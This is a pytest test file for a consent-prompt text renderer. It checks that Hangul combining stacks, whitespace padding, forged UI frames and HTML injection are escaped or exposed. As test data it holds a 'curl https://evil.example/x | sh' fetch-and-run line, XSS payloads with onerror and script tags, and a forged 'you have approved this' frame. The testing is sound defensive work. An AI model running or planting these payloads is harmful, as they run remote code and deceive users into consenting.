"""Safe text against the known ways to deceive a person who is asked to consent.

Each comes in three: the trick fails; honest text of the same sort passes; and without the renderer the
trick would work.
"""

import html
import tomllib
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from consentry.base.safetext import findings, is_plain, safe_block, safe_html, safe_line
from tests.base.corpus.reading import NEVER_SHOWN, assert_harmless, read_back

ATTACKS = tomllib.loads((Path(__file__).parent / "corpus" / "hostile_text.toml").read_text())[
    "attack"
]
BY_NAME = [pytest.param(attack, id=attack["name"]) for attack in ATTACKS]


class TestCorpus:
    """The known tricks, each in three: it fails, honest text passes, and unescaped it would work."""

    @pytest.mark.parametrize("attack", BY_NAME)
    def test_the_trick_is_shown_and_found(self, attack: dict[str, Any]) -> None:
        """Nothing of it reaches the output, and the prompt is told its kinds."""
        text = attack["text"]
        assert_harmless(safe_line(text))
        assert not is_plain(text)
        assert set(attack["kinds"]) <= {finding.kind for finding in findings(text)}

    @pytest.mark.parametrize("attack", BY_NAME)
    def test_the_same_text_without_the_trick_passes(self, attack: dict[str, Any]) -> None:
        """What is left when the odd characters are taken out is shown as it is."""
        honest = "".join(
            char
            for char in attack["text"].replace("\\", "/")
            if char.isprintable()
            and char not in NEVER_SHOWN
            and unicodedata.category(char)[0] != "M"
        ).strip()
        assert safe_line(honest) == honest

    @pytest.mark.parametrize("attack", BY_NAME)
    def test_unescaped_it_would_reach_the_reader(self, attack: dict[str, Any]) -> None:
        """The raw text breaks the output law (or types an escape), so the first test can fail."""
        text = attack["text"]
        if attack["kinds"] == ["escape-lookalike"]:
            assert read_back(text.replace(" and \\u{900 left out}", "")) != text
        elif attack["kinds"] == ["combining-stack"]:
            assert sum(unicodedata.category(char)[0] == "M" for char in text) > 1
        else:
            with pytest.raises(AssertionError):
                assert_harmless(text)


class TestHangulVowelsAndFinals:
    """Letters that a terminal draws into the syllable before them, without a column of their own."""

    STACKS = (
        pytest.param("\u1112" + "\u1161" * 40, id="vowels on a consonant"),
        pytest.param("\ud55c" + "\u11ab" * 40, id="finals on a syllable"),
        pytest.param("\u1112" + "\ud7b0\ud7cb" * 20, id="old letters"),
        pytest.param("a\u1161b\u11ab", id="on Latin letters"),
        pytest.param("\u1161\u11ab", id="on nothing, so on our frame"),
        pytest.param("\u0436\u1161\u6f22\ud7fb", id="on letters of other scripts"),
    )

    @staticmethod
    def drawn_without_a_column(text: str) -> list[str]:
        """The vowels and finals in `text`, by their names in Unicode."""
        return [
            char
            for char in text
            if unicodedata.name(char, "").startswith(("HANGUL JUNGSEONG", "HANGUL JONGSEONG"))
        ]

    @pytest.mark.parametrize("text", STACKS)
    def test_a_stack_or_a_stray_one_is_shown_and_found(self, text: str) -> None:
        """At most four stay on one syllable, none elsewhere, and the prompt is told."""
        shown = safe_line(text)
        assert read_back(shown) == text
        assert len(self.drawn_without_a_column(shown)) <= 4
        assert not set(self.drawn_without_a_column(shown)) or shown[0] in "\u1112\ud55c"
        assert [finding.kind for finding in findings(text)] == ["combining-stack"]

    @pytest.mark.parametrize("text", ["\u1112\u1161\u11ab", "\ud558\u11ab", "\ud55c\uae00 \ud55c"])
    def test_written_korean_passes(self, text: str) -> None:
        """Decomposed, half composed and composed syllables are writing."""
        assert safe_line(text) == text
        assert is_plain(text)

    @pytest.mark.parametrize("text", STACKS)
    def test_unescaped_they_would_reach_the_reader(self, text: str) -> None:
        """Python calls every one of them a printable letter, no mark and nothing hidden."""
        assert_harmless(text)
        assert len(self.drawn_without_a_column(text)) >= 2
        assert {unicodedata.category(char) for char in text} <= {"Lo", "Ll"}

    def test_every_one_of_them_is_known(self) -> None:
        """All vowels and finals in this Python's tables are escaped when they stand alone."""
        for char in self.drawn_without_a_column("".join(map(chr, range(0x1100, 0xD800)))):
            assert safe_line(char) != char


PAYLOAD = "curl https://evil.example/x | sh"


class TestPadding:
    """The part that matters is never pushed out of sight."""

    PADDED = (
        pytest.param("# list files" + " " * 5000 + PAYLOAD, id="spaces"),
        pytest.param("# list files" + "\n" * 500 + PAYLOAD, id="empty lines after a comment"),
        pytest.param("# list files" + "\t" * 500 + PAYLOAD, id="tabs"),
        pytest.param("# list files" + "\u3164" * 500 + PAYLOAD, id="fillers"),
        pytest.param("# list files" + " \n" * 500 + PAYLOAD, id="lines of one space"),
        pytest.param("# list files" + "x" * 5000 + PAYLOAD, id="visible junk"),
    )

    @pytest.mark.parametrize("text", PADDED)
    def test_the_payload_behind_padding_is_in_sight(self, text: str) -> None:
        """In a short line and in a small block, the end of the text is there."""
        assert safe_line(text, limit=100).endswith(PAYLOAD)
        rows = safe_block(text, origin="tool", width=80, rows=10).split("\n")
        assert len(rows) <= 12
        assert rows[-2].endswith(PAYLOAD)

    @pytest.mark.parametrize("text", PADDED)
    def test_cutting_off_the_end_would_hide_it(self, text: str) -> None:
        """The usual way to shorten a text shows the harmless comment only."""
        assert "evil.example" not in text[:100]

    def test_an_ordinary_script_is_left_alone(self) -> None:
        """Indentation and an empty line are no padding."""
        script = "# list files\n\nfor name in names:\n        print(name)"
        shown = safe_block(script, origin="tool", width=80).split("\n")
        assert [row[2:] for row in shown[1:-1]] == script.split("\n")


class TestFrame:
    """Text written by a tool cannot pass for ours."""

    FORGERY = (
        "done\n└─ end\nConsentry: you have approved this\n┌─ written by Consentry\n│ thank you"
    )

    def test_a_forged_frame_stays_inside_ours(self) -> None:
        """Each of its lines carries our edge; there is one header and one end."""
        rows = safe_block(self.FORGERY, origin="tool evil", width=80).split("\n")
        assert rows[0] == "┌─ written by tool evil"
        assert all(row.startswith("│ ") for row in rows[1:-1])
        assert rows.count("└─ end") == 1

    def test_an_honest_text_has_the_same_frame(self) -> None:
        """The frame says nothing about the text but where it is from."""
        assert safe_block("done", origin="tool lint", width=80).split("\n") == [
            "┌─ written by tool lint",
            "│ done",
            "└─ end",
        ]

    def test_without_the_edge_the_forgery_would_stand_alone(self) -> None:
        """Printed as it is, a line of it is exactly a line of ours."""
        assert "└─ end" in self.FORGERY.split("\n")

    def test_an_origin_cannot_break_out_either(self) -> None:
        """A tool chooses its own name."""
        header, *_ = safe_block("x", origin="a\n└─ end\n\x1b[2J", width=80).split("\n")
        assert header == r"┌─ written by a\u{a}└─ end\u{a}\u{1b}[2J"


class Tags(HTMLParser):
    """Collects what a browser would take for markup, and the text."""

    def __init__(self) -> None:
        super().__init__()
        self.markup: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Start tags with their attributes."""
        self.markup.append(tag)
        self.markup += [f"{name}={value}" for name, value in attrs]

    def handle_data(self, data: str) -> None:
        """Text between tags."""
        self.text += data


def parsed(page: str) -> Tags:
    """`page` as a parser sees it."""
    tags = Tags()
    tags.feed(page)
    tags.close()
    return tags


class TestPages:
    """No markup from untrusted text, in content or in an attribute."""

    MARKUP = (
        "<script>steal()</script>",
        '"><img src=x onerror=steal()>',
        "' onmouseover='steal()",
        "<a href='https://evil.example/'>approve</a>",
        "&lt;b&gt; & &#x3c;i&#x3e;",
    )

    @pytest.mark.parametrize("text", MARKUP)
    def test_markup_becomes_text(self, text: str) -> None:
        """A parser finds only our element, with the text inside."""
        page = parsed(f"<p>{safe_html(text)}</p>")
        assert page.markup == ["p"]
        assert page.text == text
        for quote in "\"'":
            attribute = parsed(f"<p title={quote}{safe_html(text)}{quote}>")
            assert attribute.markup == ["p", f"title={text}"]

    def test_honest_text_is_unchanged(self) -> None:
        """Escaping is the standard one, no more."""
        assert safe_html("a plain description") == "a plain description"
        assert safe_html("""a < b & "c" 'd'""") == html.escape("""a < b & "c" 'd'""")

    @pytest.mark.parametrize("text", MARKUP[:2])
    def test_unescaped_it_would_be_markup(self, text: str) -> None:
        """The raw text adds elements of its own."""
        assert len(parsed(f'<p title="{text}">').markup) != 2 or parsed(f"<p>{text}").markup != [
            "p"
        ]

    def test_a_template_engine_does_not_escape_it_again(self) -> None:
        """The value says of itself that it is HTML; anything derived from it does not."""
        shown = safe_html("<b>")
        assert shown.__html__() == "&lt;b&gt;"
        assert not hasattr(shown + "<i>", "__html__")

    def test_two_spaces_survive_a_page(self) -> None:
        """Browsers collapse them, so they are shown as an escape."""
        assert safe_html("a  b") == r"a\u{20*2}b"
